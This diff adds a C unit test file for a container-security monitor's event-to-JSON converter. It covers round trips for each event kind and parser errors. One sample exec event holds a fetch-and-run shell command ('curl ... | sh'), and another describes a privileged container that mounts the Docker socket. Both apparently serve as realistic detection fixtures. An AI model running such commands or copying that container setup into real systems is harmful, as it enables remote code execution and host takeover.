@@ -1,0 +1,385 @@
+/* test_evjson.c - events <-> JSON: exact round trips of every kind, and the
+ * errors a replay file or API client gets for bad input. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "bulwark/err.h"
+#include "bulwark/evjson.h"
+
+static const char *const full_events[] = {
+    "{\"kind\":\"exec\",\"seq\":12,\"time_ns\":1714564800123456789,\"severity\":\"notice\","
+    "\"container\":{\"id\":\"4f9c0d1e2a3b4c5d6e7f80911a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d\","
+    "\"name\":\"web-1\",\"image\":\"nginx:1.25\",\"image_digest\":\"sha256:0123abcd\","
+    "\"runtime\":\"containerd\",\"k8s_namespace\":\"shop\",\"k8s_pod\":\"web-7d9f-abcde\","
+    "\"k8s_pod_uid\":\"1b2c3d4e-0000-4000-8000-123456789abc\","
+    "\"labels\":{\"app\":\"web\",\"tier\":\"front\",\"empty\":\"\"}},"
+    "\"process\":{\"pid\":4242,\"ppid\":1,\"uid\":0,\"gid\":0,\"exe\":\"/bin/sh\",\"name\":\"sh\","
+    "\"cmdline\":\"sh -c curl -s https://example.com | sh\",\"parent_name\":\"nginx\","
+    "\"start_time_ns\":1714564800000000000,\"user\":\"root\"},"
+    "\"exec\":{\"cwd\":\"/tmp\",\"tty\":true}}",
+
+    "{\"kind\":\"net\",\"time_ns\":-5,\"severity\":\"info\",\"process\":{\"pid\":-1,\"name\":\"r\\u00e9dis\"},"
+    "\"net\":{\"direction\":\"inbound\",\"protocol\":\"udp\",\"local_addr\":\"fd00::1\",\"local_port\":53,"
+    "\"remote_addr\":\"10.1.2.3\",\"remote_port\":40000,\"remote_name\":\"dns.internal\","
+    "\"netns_inode\":\"18446744073709551615\"}}",
+
+    "{\"kind\":\"file\",\"severity\":\"warning\",\"file\":{\"op\":\"rename\",\"path\":\"/etc/passwd\","
+    "\"new_path\":\"/etc/passwd.bak\"}}",
+
+    "{\"kind\":\"resource\",\"time_ns\":1,\"resource\":{\"cpu_cores\":0.1,\"memory_bytes\":123456789,"
+    "\"memory_limit_bytes\":9223372036854775807,\"interval_ms\":10000,\"scope\":\"host\"}}",
+
+    "{\"kind\":\"config\",\"severity\":\"critical\",\"container\":{},\"config\":{\"privileged\":true,"
+    "\"user_uid\":4294967295,\"cap_add\":[\"SYS_ADMIN\",\"NET_ADMIN\"],\"host_network\":true,"
+    "\"host_pid\":true,\"host_ipc\":true,\"mounts\":[{\"source\":\"/var/run/docker.sock\","
+    "\"target\":\"/var/run/docker.sock\",\"read_only\":false,\"type\":\"bind\"},{\"source\":\"tmpfs\","
+    "\"target\":\"/tmp\",\"read_only\":true,\"type\":\"tmpfs\"},{}],\"read_only_rootfs\":true,"
+    "\"no_new_privileges\":true,\"seccomp_profile\":\"unconfined\",\"apparmor_profile\":\"docker-default\","
+    "\"env_names\":[\"PATH\",\"AWS_SECRET_ACCESS_KEY\"],\"config_path\":\"/var/lib/docker/c.json\"}}",
+
+    "{\"kind\":\"vuln\",\"severity\":\"error\",\"vuln\":{\"vuln_id\":\"CVE-2024-6387\",\"package\":\"openssh-server\","
+    "\"installed_version\":\"1:9.2p1-2\",\"fixed_version\":\"1:9.2p1-2+deb12u3\",\"vuln_severity\":\"HIGH\","
+    "\"cvss_score\":8.1,\"title\":\"regreSSHion\",\"scanner\":\"trivy\",\"target\":\"debian:12\"}}",
+
+    "{\"kind\":\"external\",\"severity\":\"alert\",\"external\":{\"source\":\"falco\",\"rule\":\"Terminal shell in container\","
+    "\"priority\":\"Warning\",\"output\":\"A shell was spawned\",\"fields\":{\"proc.name\":\"bash\","
+    "\"container.id\":\"abc\"},\"tags\":[\"container\",\"shell\",\"mitre_execution\"]}}",
+};
+
+static Bulwark__V1__Event *parse(const char *text)
+{
+    char err[256] = "";
+    Bulwark__V1__Event *ev = NULL;
+    int rc = evjson_event_from_line(text, strlen(text), &ev, err, sizeof err);
+
+    if (rc != 0)
+        print_error("parse failed: %s\n", err);
+    assert_int_equal(rc, 0);
+    assert_non_null(ev);
+    return ev;
+}
+
+/* rc, with the error text in err, for a line expected to fail */
+static int parse_err(const char *text, char *err, size_t errlen)
+{
+    Bulwark__V1__Event *ev = NULL;
+    int rc = evjson_event_from_line(text, strlen(text), &ev, err, errlen);
+
+    assert_null(ev);
+    return rc;
+}
+
+static void assert_same_packed(const Bulwark__V1__Event *a, const Bulwark__V1__Event *b)
+{
+    size_t na = bulwark__v1__event__get_packed_size(a), nb = bulwark__v1__event__get_packed_size(b);
+    uint8_t *pa = malloc(na + 1), *pb = malloc(nb + 1);
+
+    assert_non_null(pa);
+    assert_non_null(pb);
+    assert_int_equal(bulwark__v1__event__pack(a, pa), na);
+    assert_int_equal(bulwark__v1__event__pack(b, pb), nb);
+    assert_int_equal(na, nb);
+    assert_memory_equal(pa, pb, na);
+    free(pa);
+    free(pb);
+}
+
+/* to_json -> text -> from_line gives the same packed bytes, and the second
+ * JSON rendering equals the first. */
+static void round_trip(const Bulwark__V1__Event *ev)
+{
+    json_t *j1 = evjson_event_to_json(ev), *j2;
+    Bulwark__V1__Event *back;
+    char *text;
+
+    assert_non_null(j1);
+    text = json_dumps(j1, JSON_COMPACT);
+    assert_non_null(text);
+    back = parse(text);
+    assert_same_packed(ev, back);
+    j2 = evjson_event_to_json(back);
+    assert_non_null(j2);
+    assert_true(json_equal(j1, j2));
+    json_decref(j1);
+    json_decref(j2);
+    free(text);
+    evjson_event_free(back);
+}
+
+static void test_round_trip_every_kind(void **state)
+{
+    int seen[17] = {0};
+
+    for (size_t i = 0; i < sizeof full_events / sizeof full_events[0]; i++) {
+        Bulwark__V1__Event *ev = parse(full_events[i]);
+
+        seen[ev->body_case] = 1;
+        round_trip(ev);
+        evjson_event_free(ev);
+    }
+    for (int k = BULWARK__V1__EVENT__BODY_EXEC; k <= BULWARK__V1__EVENT__BODY_EXTERNAL; k++)
+        assert_true(seen[k]);
+}
+
+static void test_fields_parsed(void **state)
+{
+    Bulwark__V1__Event *ev = parse(full_events[0]);
+
+    assert_int_equal(ev->body_case, BULWARK__V1__EVENT__BODY_EXEC);
+    assert_int_equal(ev->seq, 12);
+    assert_int_equal(ev->time_ns, 1714564800123456789LL);
+    assert_int_equal(ev->severity, BULWARK__V1__SEVERITY__SEVERITY_NOTICE);
+    assert_string_equal(ev->container->image, "nginx:1.25");
+    assert_int_equal(ev->container->n_labels, 3);
+    assert_string_equal(ev->container->labels[0]->key, "app");
+    assert_string_equal(ev->container->labels[0]->value, "web");
+    assert_int_equal(ev->process->pid, 4242);
+    assert_string_equal(ev->process->parent_name, "nginx");
+    assert_string_equal(ev->exec->cwd, "/tmp");
+    assert_true(ev->exec->tty);
+    evjson_event_free(ev);
+
+    ev = parse(full_events[1]);
+    assert_int_equal(ev->net->direction, BULWARK__V1__NET_CONNECTION__DIRECTION__INBOUND);
+    assert_int_equal(ev->net->protocol, BULWARK__V1__NET_CONNECTION__PROTOCOL__UDP);
+    assert_true(ev->net->netns_inode == UINT64_MAX);
+    assert_null(ev->container);
+    assert_string_equal(ev->process->name, "r\xc3\xa9" "dis");
+    evjson_event_free(ev);
+
+    ev = parse(full_events[4]);
+    assert_non_null(ev->container);  /* present though empty */
+    assert_int_equal(ev->config->user_uid, UINT32_MAX);
+    assert_int_equal(ev->config->n_mounts, 3);
+    assert_string_equal(ev->config->mounts[1]->type, "tmpfs");
+    assert_true(ev->config->mounts[1]->read_only);
+    assert_string_equal(ev->config->env_names[1], "AWS_SECRET_ACCESS_KEY");
+    evjson_event_free(ev);
+}
+
+/* The output a user reads: kind first, enums by name, defaults left out. */
+static void test_output_shape(void **state)
+{
+    Bulwark__V1__Event *ev = parse("{\"kind\":\"net\",\"time_ns\":5,\"net\":{\"remote_port\":443}}");
+    json_t *j = evjson_event_to_json(ev);
+    char *text = json_dumps(j, JSON_COMPACT);
+
+    assert_string_equal(text, "{\"kind\":\"net\",\"time_ns\":5,\"severity\":\"unspecified\","
+                              "\"net\":{\"direction\":\"outbound\",\"protocol\":\"tcp\",\"remote_port\":443}}");
+    free(text);
+    json_decref(j);
+    evjson_event_free(ev);
+}
+
+/* An event built by hand with heap strings, as the synthetic source does. */
+static void test_hand_built(void **state)
+{
+    Bulwark__V1__Event *ev = malloc(sizeof *ev);
+    Bulwark__V1__ResourceSample *r = malloc(sizeof *r);
+
+    assert_non_null(ev);
+    assert_non_null(r);
+    bulwark__v1__event__init(ev);
+    bulwark__v1__resource_sample__init(r);
+    ev->body_case = BULWARK__V1__EVENT__BODY_RESOURCE;
+    ev->resource = r;
+    ev->seq = UINT64_MAX;
+    ev->time_ns = INT64_MIN;
+    r->cpu_cores = 0.30000000000000004;
+    r->memory_bytes = (uint64_t)INT64_MAX + 1;
+    r->scope = strdup("container");
+    round_trip(ev);
+    evjson_event_free(ev);
+    evjson_event_free(NULL);
+}
+
+static void test_kind_only_and_time(void **state)
+{
+    Bulwark__V1__Event *ev = parse("{\"kind\":\"file\",\"time\":\"2024-05-01T12:00:00.5Z\"}");
+
+    assert_int_equal(ev->body_case, BULWARK__V1__EVENT__BODY_FILE);
+    assert_non_null(ev->file);
+    assert_int_equal(ev->time_ns, 1714564800500000000LL);
+    round_trip(ev);
+    evjson_event_free(ev);
+
+    ev = parse("{\"kind\":\"exec\",\"time\":\"2024-05-01T14:00:00+02:00\"}");
+    assert_int_equal(ev->time_ns, 1714564800000000000LL);
+    evjson_event_free(ev);
+
+    /* time_ns wins over time */
+    ev = parse("{\"kind\":\"exec\",\"time_ns\":7,\"time\":\"2024-05-01T14:00:00Z\"}");
+    assert_int_equal(ev->time_ns, 7);
+    evjson_event_free(ev);
+}
+
+/* head + n 'a's + tail, malloc'd */
+static char *padded(const char *head, size_t n, const char *tail)
+{
+    size_t h = strlen(head), t = strlen(tail);
+    char *s = malloc(h + n + t + 1);
+
+    assert_non_null(s);
+    memcpy(s, head, h);
+    memset(s + h, 'a', n);
+    memcpy(s + h + n, tail, t + 1);
+    return s;
+}
+
+static void test_errors(void **state)
+{
+    Bulwark__V1__Event *ev;
+    char err[256];
+    char *big;
+
+    assert_int_equal(parse_err("{\"kind\":\"exec\",\"process\":{\"pid\":\"abc\"}}", err, sizeof err),
+                     BW_EINVAL);
+    assert_non_null(strstr(err, "process.pid"));
+    assert_int_equal(parse_err("{\"kind\":\"exec\",\"process\":{\"pid\":4294967296}}", err, sizeof err),
+                     BW_EINVAL);
+    assert_non_null(strstr(err, "process.pid"));
+    assert_int_equal(parse_err("{\"kind\":\"exec\",\"exec\":{\"tty\":1}}", err, sizeof err), BW_EINVAL);
+    assert_non_null(strstr(err, "exec.tty"));
+    assert_int_equal(parse_err("{\"kind\":\"net\",\"net\":{\"direction\":\"sideways\"}}", err, sizeof err),
+                     BW_EINVAL);
+    assert_non_null(strstr(err, "net.direction"));
+    assert_int_equal(parse_err("{\"kind\":\"config\",\"config\":{\"mounts\":[{\"read_only\":\"yes\"}]}}",
+                               err, sizeof err), BW_EINVAL);
+    assert_non_null(strstr(err, "config.mounts[0].read_only"));
+    assert_int_equal(parse_err("{\"kind\":\"external\",\"external\":{\"fields\":[1]}}", err, sizeof err),
+                     BW_EINVAL);
+    assert_non_null(strstr(err, "external.fields"));
+    assert_int_equal(parse_err("{\"kind\":\"external\",\"external\":{\"tags\":\"x\"}}", err, sizeof err),
+                     BW_EINVAL);
+    assert_int_equal(parse_err("{\"kind\":\"exec\",\"container\":[]}", err, sizeof err), BW_EINVAL);
+    assert_non_null(strstr(err, "container"));
+    assert_int_equal(parse_err("{\"kind\":\"exec\",\"time\":\"2023-02-30T00:00:00Z\"}", err, sizeof err),
+                     BW_EINVAL);
+    assert_non_null(strstr(err, "time"));
+
+    assert_int_equal(parse_err("{\"kind\":\"teleport\"}", err, sizeof err), BW_EINVAL);
+    assert_non_null(strstr(err, "unknown kind 'teleport'"));
+    assert_int_equal(parse_err("{\"kind\":\"seq\"}", err, sizeof err), BW_EINVAL);  /* not a body */
+    assert_int_equal(parse_err("{\"time_ns\":1}", err, sizeof err), BW_EINVAL);
+    assert_non_null(strstr(err, "kind"));
+    assert_int_equal(parse_err("[1,2]", err, sizeof err), BW_EINVAL);
+    assert_int_equal(parse_err("{\"kind\":\"exec\"", err, sizeof err), BW_EINVAL);
+    assert_int_equal(parse_err("{\"kind\":\"exec\",\"kind\":\"net\"}", err, sizeof err), BW_EINVAL);
+
+    /* an error into a zero-length buffer is still an error */
+    assert_int_equal(parse_err("{\"kind\":1}", NULL, 0), BW_EINVAL);
+    assert_int_equal(parse_err("{\"kind\":1}", err, 8), BW_EINVAL);
+    assert_true(strlen(err) < 8);
+
+    /* oversized strings: 1 KiB, cmdline 4 KiB */
+    big = padded("{\"kind\":\"exec\",\"container\":{\"name\":\"", 1025, "\"}}");
+    assert_int_equal(parse_err(big, err, sizeof err), BW_EINVAL);
+    assert_non_null(strstr(err, "container.name"));
+    free(big);
+
+    big = padded("{\"kind\":\"exec\",\"process\":{\"cmdline\":\"", 4096, "\"}}");
+    ev = parse(big);  /* exactly 4096 fits */
+    assert_int_equal(strlen(ev->process->cmdline), 4096);
+    evjson_event_free(ev);
+    free(big);
+    big = padded("{\"kind\":\"exec\",\"process\":{\"cmdline\":\"", 4097, "\"}}");
+    assert_int_equal(parse_err(big, err, sizeof err), BW_EINVAL);
+    assert_non_null(strstr(err, "process.cmdline"));
+    free(big);
+}
+
+static void test_limits_lists_and_nul(void **state)
+{
+    json_t *o = json_pack("{s:s, s:{s:[]}}", "kind", "config", "config", "cap_add");
+    json_t *caps = json_object_get(json_object_get(o, "config"), "cap_add");
+    Bulwark__V1__Event *ev = NULL;
+    char err[256];
+
+    for (int i = 0; i < 256; i++)
+        json_array_append_new(caps, json_string("CAP"));
+    assert_int_equal(evjson_event_from_json(o, &ev, err, sizeof err), 0);
+    assert_int_equal(ev->config->n_cap_add, 256);
+    evjson_event_free(ev);
+    ev = NULL;
+    json_array_append_new(caps, json_string("CAP"));
+    assert_int_equal(evjson_event_from_json(o, &ev, err, sizeof err), BW_EINVAL);
+    assert_null(ev);
+    assert_non_null(strstr(err, "config.cap_add"));
+    json_decref(o);
+
+    o = json_pack("{s:s, s:{s:s%}}", "kind", "file", "file", "path", "/a\0b", (size_t)4);
+    assert_non_null(o);
+    assert_int_equal(evjson_event_from_json(o, &ev, err, sizeof err), BW_EINVAL);
+    assert_non_null(strstr(err, "file.path"));
+    json_decref(o);
+}
+
+/* Events unpacked from the wire have the same malloc'd layout. */
+static void test_free_unpacked(void **state)
+{
+    for (size_t i = 0; i < sizeof full_events / sizeof full_events[0]; i++) {
+        Bulwark__V1__Event *ev = parse(full_events[i]), *un;
+        size_t n = bulwark__v1__event__get_packed_size(ev);
+        uint8_t *p = malloc(n + 1);
+
+        assert_non_null(p);
+        bulwark__v1__event__pack(ev, p);
+        un = bulwark__v1__event__unpack(NULL, n, p);
+        assert_non_null(un);
+        assert_same_packed(ev, un);
+        evjson_event_free(un);  /* ASan checks this frees exactly what unpack made */
+        evjson_event_free(ev);
+        free(p);
+    }
+}
+
+static void test_kind_names(void **state)
+{
+    assert_string_equal(evjson_kind_name(BULWARK__V1__EVENT__BODY_NET), "net");
+    assert_string_equal(evjson_kind_name(BULWARK__V1__EVENT__BODY_EXTERNAL), "external");
+    assert_null(evjson_kind_name(0));
+    assert_null(evjson_kind_name(1));  /* seq: a field, not a kind */
+    assert_null(evjson_kind_name(99));
+    assert_int_equal(evjson_kind_from_name("vuln"), BULWARK__V1__EVENT__BODY_VULN);
+    assert_int_equal(evjson_kind_from_name("process"), 0);
+    assert_int_equal(evjson_kind_from_name("nope"), 0);
+    assert_int_equal(evjson_kind_from_name(NULL), 0);
+}
+
+/* Invalid UTF-8 from the wire still yields JSON. */
+static void test_invalid_utf8_output(void **state)
+{
+    Bulwark__V1__Event *ev = parse("{\"kind\":\"file\",\"file\":{\"path\":\"/x\"}}");
+    json_t *j;
+
+    free(ev->file->path);
+    ev->file->path = strdup("/tmp/\xff\xfe");
+    j = evjson_event_to_json(ev);
+    assert_non_null(j);
+    assert_string_equal(json_string_value(json_object_get(json_object_get(j, "file"), "path")), "/tmp/??");
+    json_decref(j);
+    evjson_event_free(ev);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_round_trip_every_kind),
+        cmocka_unit_test(test_fields_parsed),
+        cmocka_unit_test(test_output_shape),
+        cmocka_unit_test(test_hand_built),
+        cmocka_unit_test(test_kind_only_and_time),
+        cmocka_unit_test(test_errors),
+        cmocka_unit_test(test_limits_lists_and_nul),
+        cmocka_unit_test(test_free_unpacked),
+        cmocka_unit_test(test_kind_names),
+        cmocka_unit_test(test_invalid_utf8_output),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
